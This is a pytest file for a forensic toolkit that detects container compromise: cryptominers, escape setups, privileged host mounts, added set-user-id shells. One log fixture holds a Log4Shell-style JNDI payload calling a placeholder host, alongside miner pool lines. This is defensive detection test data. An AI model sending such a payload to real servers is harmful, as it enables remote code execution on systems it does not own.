"""A miner, a way out by a mount, a privileged container: each named, with its pod or task; an image's own files are no findings."""

from __future__ import annotations

from forensic_toolkit.filesystems.tree import Tree
from forensic_toolkit.findings import Finding
from forensic_toolkit.results import Results
from forensic_toolkit.rules import container_rules, file_rules
from forensic_toolkit.times import now
from tests.toolkit import container_trees
from tests.toolkit.container_trees import SNAPSHOTS
from tests.toolkit.fake_tree import Builder


def titles(tree: Tree, *rules: object) -> set[tuple[str, str, str | None]]:
    found = [f for rule in rules for f in rule(tree)]  # type: ignore[operator]
    return {(f.title, f.severity, f.technique) for f in found}


def logs(tree: Tree) -> list[Finding]:
    return list(container_rules.logs(tree, results=Results("c", "e", "disk", started=now())))


def test_pods_of_containerd() -> None:
    tree = container_trees.containerd().tree()
    assert titles(tree, container_rules.host_access, container_rules.commands) == {
        (
            "Container with the host's root file system at /host, writable: helper (pod shop/node-helper-x2)",
            "high",
            "T1611",
        ),
        ("Container with strong capabilities (SYS_ADMIN): batch (pod shop/batch-1)", "medium", "T1610"),
        ("Container escape prepared in container helper (pod shop/node-helper-x2)", "critical", "T1611"),
        ("Mining software in container batch (pod shop/batch-1)", "critical", "T1496"),
    }
    (helper,) = (f for f in container_rules.host_access(tree) if "helper" in f.title)
    assert "Privileged container" in helper.detail
    assert "shares the host's processes" in helper.detail
    assert helper.data["pod_or_task"] == "shop/node-helper-x2"
    assert helper.data["digest"].startswith("sha256:")


def test_tasks_and_what_they_changed_in_docker() -> None:
    """The image's own set-user-id /bin/su is no finding; /bin/rootsh, which a container added, is."""
    tree = container_trees.docker()
    found = titles(tree, container_rules.commands, container_rules.changes)
    worker = "worker (ECS task batch:3 0f9c2f6a)"
    assert found == {
        (f"Mining software in container {worker}", "critical", "T1496"),
        ("Container escape prepared in container helper", "critical", "T1611"),
        (f"Mining software in container {worker}: /tmp/xmrig", "critical", "T1496"),
        (f"Mining software in container {worker}: /tmp-x/xmrig", "critical", "T1496"),
        ("Program of the image replaced in container web: /bin/app", "high", "T1554"),
        ("Download piped into an interpreter in container web", "critical", "T1059.004"),
        ("Program with set-user-id bit in container web: /bin/rootsh", "medium", "T1548.001"),
        ("Files that container web changed", "info", None),
        (f"Files that container {worker} changed", "info", None),
    }
    assert list(file_rules.privileged(tree)) == []
    (listed,) = (f for f in container_rules.changes(tree) if f.title == "Files that container web changed")
    assert "2 added, 1 changed" in listed.detail
    assert (set(listed.data["added"]), listed.data["changed"]) == ({"/bin/rootsh", "/root/.bash_history"}, ["/bin/app"])


def test_set_user_id_programs_of_containerd_images_and_of_a_container() -> None:
    builder = container_trees.containerd()
    for number, name in ((1, "bin/su"), (2, "usr/bin/mount"), (3, "usr/bin/added")):
        builder.add(f"{SNAPSHOTS}/snapshots/{number}/fs/{name}", b"\x7fELF x", mode=0o4755)
    builder.add(f"{SNAPSHOTS}/snapshots/3/fs/bin/su", b"\x7fELF y", mode=0o755)
    tree = builder.tree()
    assert list(file_rules.privileged(tree)) == []
    web = "web (pod shop/web-7c9d)"
    assert {title for title, _, _ in titles(tree, container_rules.changes)} == {
        f"Program with set-user-id bit in container {web}: /usr/bin/added",
        f"Program of the image replaced in container {web}: /bin/su",
        f"Files that container {web} changed",
    }


def test_a_layer_whose_container_is_not_recorded_keeps_its_set_user_id_programs() -> None:
    layer, container = "9b" * 32, "c4" * 32
    builder = Builder().add(f"/var/lib/docker/image/overlay2/layerdb/mounts/{container}/mount-id", layer.encode())
    builder.add(f"/var/lib/docker/overlay2/{layer}/diff/bin/rootsh", b"\x7fELF", mode=0o4755)
    assert [f.source.rsplit("/diff", 1)[1] for f in file_rules.privileged(builder.tree())] == ["/bin/rootsh"]


def test_a_miner_and_an_attack_in_the_logs_of_pods() -> None:
    row = (
        b'203.0.113.9 - - [30/Nov/2026:05:00:00 +0000] "GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1" 200 5 "-" "curl"'
    )
    lines = (
        b"2026-11-30T05:00:00.1Z stdout F "
        + row
        + b"\n2026-11-30T05:00:01.1Z stderr F new job from pool.example:3333 diff 120001\n"
    )
    path = "/var/log/pods/shop_web-7c9d_6f6d2b6e-7a43-4b07-9a83-2d0a2f0a1c11/web/0.log"
    found = logs(container_trees.containerd().add(path, lines).tree())
    assert {(f.severity, f.technique) for f in found} >= {("high", "T1496")}
    assert any(f.technique == "T1190" for f in found)
    assert {f.data["pod_or_task"] for f in found} == {"shop/web-7c9d"}
    container = "aa" * 32
    text = b'{"log":"[2026-11-30 05:00:00]  net      use pool stratum+tcp://pool.example:3333\\n","stream":"stdout","time":"x"}\n{"log":"cut'
    tree = Builder().add(f"/var/lib/docker/containers/{container}/{container}-json.log", text).tree()
    assert [f.title for f in logs(tree)] == [
        f"Mining software in the log of container /var/lib/docker/containers/{container}/{container}-json.log"
    ]


def test_agents_that_need_the_host_are_low_and_usual_containers_silent() -> None:
    host = b'{"Privileged": true, "PidMode": "host", "NetworkMode": "host"}'
    config = b'{"ID": "%s", "Name": "/a", "Config": {"Image": "%s"}, "Path": "/run", "MountPoints": {"x": {"Type": "bind", "Source": "/", "Destination": "/rootfs", "RW": false}}}'
    builder = Builder()
    for number, image in ((1, b"gcr.example/cadvisor:v0.47"), (2, b"shop/web:1")):
        container = f"{number}a" * 32
        folder = f"/var/lib/docker/containers/{container}"
        builder.add(f"{folder}/config.v2.json", config % (container.encode(), image))
        builder.add(f"{folder}/hostconfig.json", host if number == 1 else b'{"PidMode": "", "NetworkMode": "default"}')
    assert {s for _, s, _ in titles(builder.tree(), container_rules.host_access)} == {"low"}


def test_records_become_a_timeline_and_a_list_and_damage_a_gap() -> None:
    results = Results("c", "e", "disk", started=now())
    tree = container_trees.containerd().add("/var/lib/ecs/data/agent.db", b"damaged").tree()
    (listed,) = container_rules.records(tree, results=results)
    assert listed.detail.startswith("28 containers, 0 ECS tasks")
    assert len(results.events) == 28
    assert results.gaps == [
        (
            "containers: /var/lib/ecs/data/agent.db",
            "the record cannot be read: it has no valid meta page of a bbolt database",
        )
    ]
